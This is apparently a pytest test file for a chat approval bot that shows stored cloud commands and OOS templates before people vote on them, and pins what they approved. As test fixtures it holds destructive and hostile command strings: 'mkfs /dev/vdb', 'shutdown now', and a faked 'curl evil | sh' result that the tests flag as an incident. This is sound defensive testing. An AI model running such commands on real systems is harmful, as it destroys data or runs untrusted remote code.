"""What is kept in the cloud is read, shown and frozen before people vote on it."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bot import model, policy, regexes, texts
from tests.bot import run_stage
from tests.bot.stage import Stage, actions, book, cards, said, words

State = model.State
SCRIPT = "useradd {{ emp_id }}\nusermod -G {{role}} {{EMP_ID}}\n"
ROOT = """FormatVersion: OOS-2019-06-01
Parameters:
  size: {Type: Number, Default: 3}
Tasks:
  - Name: part
    Action: ACS::Template
    Properties:
      TemplateName: part
      Parameters: {word: hello}
"""
PART = """FormatVersion: OOS-2019-06-01
Parameters: {word: {Type: String}}
Tasks:
  - Name: inner
    Action: ACS::Template
    Properties: {TemplateName: leaf, Parameters: {word: '{{ word }}'}}
"""
LEAF = """FormatVersion: OOS-2019-06-01
Parameters: {word: {Type: String}}
Tasks:
  - Name: act
    Action: ACS::ExecuteAPI
    Properties: {Service: ECS, API: DeleteEverything, Parameters: {Note: '{{ word }}'}}
"""


def stored(stage: Stage, content: str = SCRIPT, **more: Any) -> None:
    stage.stored["c-1"] = {"content": content, "braces": True, "type": "RunShellScript", **more}


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Callable[..., Stage]]:
    made: list[Stage] = []

    def make(**rule: Any) -> Stage:
        fields = {"targets": ("web-01",), "command_id": "c-1", "timeout": 0, **rule}
        commands = {"provision": policy.CommandRule("any", "low", **fields)}
        patterns = (*book().patterns, *rule_patterns())
        stage = Stage(tmp_path, book(commands=commands, patterns=patterns))
        made.append(stage)
        return stage

    yield make
    for stage in made:
        stage.close()


def rule_patterns() -> tuple[policy.Pattern, ...]:

    return (
        policy.Pattern(regexes.compiled("shutdown"), frozenset({"script"}), "refuse", "goes down"),
        policy.Pattern(
            regexes.compiled("mkfs"), frozenset({"script"}), "escalate", "formats", "all"
        ),
    )


ASK = "provision emp_id=E1 role=dev"


# ----------------------------------------------------------------------------- stored commands


@pytest.mark.parametrize("invoke", [False, True])
def test_the_text_of_a_stored_command_is_what_is_voted_on(
    make: Callable[..., Stage], invoke: bool
) -> None:
    stage = make(invoke=invoke)
    stored(stage, timeout=90, workdir="/srv", launcher="python3 -u {{ACS::ScriptFileName}}")
    request = stage.planned("alice", ASK)
    plan = request.plan
    assert plan is not None
    assert plan.script == "useradd E1\nusermod -G dev E1\n"
    assert (plan.timeout, plan.workdir, plan.invoke) == (90, "/srv", invoke)
    card = words(stage_card(stage, request))
    for text in ("useradd E1\nusermod -G dev E1", "/srv", "90", "python3 -u", "c-1"):
        assert text in card
    assert plan.definitions[0].digest[:12] in card
    other = dataclasses.replace(plan, definitions=())
    assert model.digest(other) != request.digest, "it is in the digest"
    stage.click("bob", request.id, "approve", request.code)
    [start] = [one for one in stage.work() if isinstance(one, model.StartRun)]
    assert start.plan == plan


def stage_card(stage: Stage, request: model.Request) -> model.Card:
    from bot import cards as bot_cards

    return bot_cards.request_card(stage.deployment, request)


@pytest.mark.parametrize(
    ("item", "word"),
    [
        (None, "c-1"),
        ({"content": "echo {{emp_id}}"}, "emp_id"),
        ({"content": "echo {{emp_id}} {{role}} {{other}}"}, "other"),
        ({"content": SCRIPT, "braces": False}, "EnableParameter"),
        ({"content": SCRIPT + "mysql -p{{ oos-secret:db }}"}, "parameter store"),
        ({"content": "# {{emp_id}} {{role}}\nshutdown now"}, "goes down"),
        ({"content": SCRIPT + "x" * 30_000}, "18"),
    ],
)
def test_what_cannot_be_shown_or_may_not_run_is_refused_in_words(
    make: Callable[..., Stage], item: dict[str, Any] | None, word: str
) -> None:
    stage = make()
    if item is not None:
        stored(stage, **item)
    stage.ask("alice", ASK)
    assert word in said(stage.work())[-1]
    assert stage.request(1).state is State.REFUSED
    assert "request.refused" in actions(stage)


@pytest.mark.parametrize(
    ("outcome", "word"),
    [
        (model.Refused("grant it ecs:DescribeCommands", "Forbidden.RAM"), "ecs:DescribeCommands"),
        (model.NotSent("Alibaba Cloud asks for fewer calls", 1), "fewer calls"),
    ],
)
def test_a_refused_reading_says_what_to_do(
    make: Callable[..., Stage], outcome: model.Outcome, word: str
) -> None:
    stage = make()
    stage.ask("alice", ASK)
    for claimed in stage.claim():
        if isinstance(claimed.effect.body, model.FetchDefinition):
            stage.settle(claimed, outcome)
    if isinstance(outcome, model.NotSent):
        stage.tick(121)
        word = "too long"
    assert word in said(stage.work())[-1]
    assert stage.request(1).state is State.REFUSED


def test_a_stored_command_that_a_pattern_minds_needs_the_stronger_policy(
    make: Callable[..., Stage],
) -> None:
    stage = make()
    stored(stage, SCRIPT + "mkfs /dev/vdb\n")
    request = stage.planned("alice", ASK)
    assert (request.policies, request.escalated) == (("any", "all"), "formats")


def test_what_is_stored_is_held_to_the_tables_that_call_for_further_policies(
    make: Callable[..., Stage],
) -> None:
    """Of one that needs both the text and the number of targets, only the plan tells."""
    stage = make()
    formats = regexes.compiled("mkfs")
    table = policy.When(
        "two", "formats machines", regex=formats, where=frozenset({"script"}), more_targets_than=0
    )
    other = replace(table, reason="formats many", policy="turn", more_targets_than=1)
    changed = replace(stage.deployment.book, when=(table, other), patterns=())
    stage.deployment = replace(stage.deployment, book=changed)
    stored(stage, SCRIPT)
    assert stage.planned("alice", ASK).policies == ("any",)
    stored(stage, SCRIPT + "mkfs /dev/vdb\n")
    request = stage.planned("alice", ASK)
    assert (request.policies, request.escalated) == (("any", "two"), "formats machines (two)")


def test_why_a_pattern_minds_is_told_in_the_language_of_the_chat(tmp_path: Path) -> None:
    def pattern(word: str, action: Any, reason: str) -> policy.Pattern:
        where = frozenset({"text"})
        return policy.Pattern(regexes.compiled(word), where, action, reason, "all")

    patterns = (
        pattern("mysql", "escalate", texts.Bilingual("a database", "数据库")),
        pattern("redis", "escalate", "a cache"),
        pattern("init", "refuse", texts.Bilingual("goes down", "会关机")),
    )
    for locale, why, no in (
        ("zh-CN", "数据库; a cache", "会关机"),
        ("en", "a database; a cache", "goes down"),
    ):
        (tmp_path / locale).mkdir()
        groups = tuple(replace(group, locale=locale) for group in book().groups)
        stage = Stage(tmp_path / locale, book(patterns=patterns, groups=groups))
        request = stage.planned("alice", "restart web-01 reason='mysql redis'")
        assert request.escalated == why
        stage.ask("alice", "restart web-01 reason=init")
        assert no in said(stage.work())[-1]
        stage.close()


def test_what_ran_instead_is_told_as_an_incident(make: Callable[..., Stage]) -> None:
    stage = make(invoke=True)
    stored(stage)
    request = stage.planned("alice", ASK)
    stage.click("bob", request.id, "approve", request.code)
    told: list[model.Effect] = []
    while taken := stage.claim():
        for claimed in taken:
            body = claimed.effect.body
            told.append(body)
            data = {"content": "different", "ran": "curl evil | sh"}
            swapped = isinstance(body, model.StartRun)
            stage.settle(claimed, model.Done("t-1", data) if swapped else stage.answer(claimed))
    assert any("not what was shown" in text and "curl evil" in text for text in said(told))
    assert any("Incident" in words(card) for card in cards(told))
    stage.observe(request.id)
    assert stage.request(request.id).state is State.SUCCEEDED
    assert any("Incident" in text for text in said(stage.work())), "the outcome says so, too"
    assert "run.incident" in actions(stage)


# ----------------------------------------------------------------------------- templates on OOS


def oos_stage(folder: Path, **rule: Any) -> run_stage.RunStage:
    rules = {"root": policy.CommandRule("any", "high", engine="oos", **rule)}
    return run_stage.RunStage(folder, run_stage.book(commands=rules), {"root": ROOT})


def put(stage: Stage, **texts: str) -> None:
    for name, text in texts.items():
        stage.stored[name] = {"content": text, "version": "v3"}


@pytest.fixture
def on_oos(tmp_path: Path) -> Iterator[run_stage.RunStage]:
    stage = oos_stage(tmp_path)
    yield stage
    stage.close()


def test_sub_templates_on_oos_are_shown_and_pinned(on_oos: run_stage.RunStage) -> None:
    put(on_oos, part=PART, leaf=LEAF)
    request = on_oos.planned("alice", "root")
    plan = request.plan
    assert plan is not None
    assert 'TemplateVersion: "v3"\n      TemplateName: part' in plan.script
    pinned = {one.name: (one.version, one.pinned) for one in plan.definitions}
    assert pinned == {"part": ("v3", True), "leaf": ("v3", False)}
    card = words(stage_card(on_oos, request))
    assert "DeleteEverything" in card
    assert "⚠ leaf v3" in card
    assert "part v3" in card
    put(on_oos, leaf=LEAF.replace("Everything", "More"))
    again = on_oos.planned("alice", "root")
    assert again.plan is not None
    assert again.plan.definitions != plan.definitions
    other = dataclasses.replace(plan, definitions=again.plan.definitions)
    assert model.digest(other) != request.digest, "another content is another plan"


def test_a_template_on_oos_runs_in_the_version_that_was_shown(tmp_path: Path) -> None:
    stage = oos_stage(tmp_path, oos_template="far")
    put(stage, far=LEAF.replace("{Type: String}", "{Type: String, Default: usual}"))
    request = stage.planned_or_said("alice", "root")
    assert isinstance(request, str)
    assert "size" in request, "the file and the template on OOS must take the same"
    put(stage, far=ROOT, part=PART, leaf=LEAF)
    planned = stage.planned("alice", "root")
    plan = planned.plan
    assert plan is not None
    assert (plan.command_id, plan.version, plan.script) == ("far", "v3", "")
    assert {one.name: one.pinned for one in plan.definitions} == {
        "far": True,
        "part": False,
        "leaf": False,
    }
    assert "DeleteEverything" in words(stage_card(stage, planned))
    stage.approve(number=planned.id)
    [start] = [one for one in stage.work() if isinstance(one, model.StartRun)]
    assert start.plan == plan
    stage.close()


def test_a_template_whose_parts_cannot_be_read_is_not_planned(on_oos: run_stage.RunStage) -> None:
    put(on_oos, part=PART)
    assert "leaf" in str(on_oos.planned_or_said("alice", "root"))
    put(on_oos, leaf="FormatVersion: OOS-2019-06-01\nTasks: [}")
    assert "cannot be read" in str(on_oos.planned_or_said("alice", "root"))
    put(on_oos, leaf=LEAF + "#" * 70_000)
    assert "64 KB" in str(on_oos.planned_or_said("alice", "root"))


def test_a_template_that_is_named_by_a_value_is_found(on_oos: run_stage.RunStage) -> None:
    part = PART.replace("TemplateName: leaf", "TemplateName: '{{ word }}'")
    put(on_oos, part=part, hello=LEAF)
    request = on_oos.planned("alice", "root")
    assert "DeleteEverything" in words(stage_card(on_oos, request))


def test_a_template_that_only_the_run_knows_is_not_planned(on_oos: run_stage.RunStage) -> None:
    put(on_oos, part=PART.replace("TemplateName: leaf", "TemplateName: '{{ find.name }}'"))
    assert "inner" in str(on_oos.planned_or_said("alice", "root"))


def test_templates_that_run_each_other_are_not_planned(on_oos: run_stage.RunStage) -> None:
    put(on_oos, part=PART, leaf=PART.replace("TemplateName: leaf", "TemplateName: part"))
    assert "deeper" in str(on_oos.planned_or_said("alice", "root"))


def test_what_runs_by_its_id_is_marked(tmp_path: Path) -> None:
    called = LEAF.replace("DeleteEverything", "InvokeCommand")
    rules = {"root": policy.CommandRule("any", "high")}
    stage = run_stage.RunStage(tmp_path, run_stage.book(commands=rules), {"root": called})
    request = stage.planned("alice", "root word=x")
    assert request.plan is not None
    assert request.plan.loose == ("root/act",)
    assert "⚠ root/act" in words(stage_card(stage, request))
    stage.close()
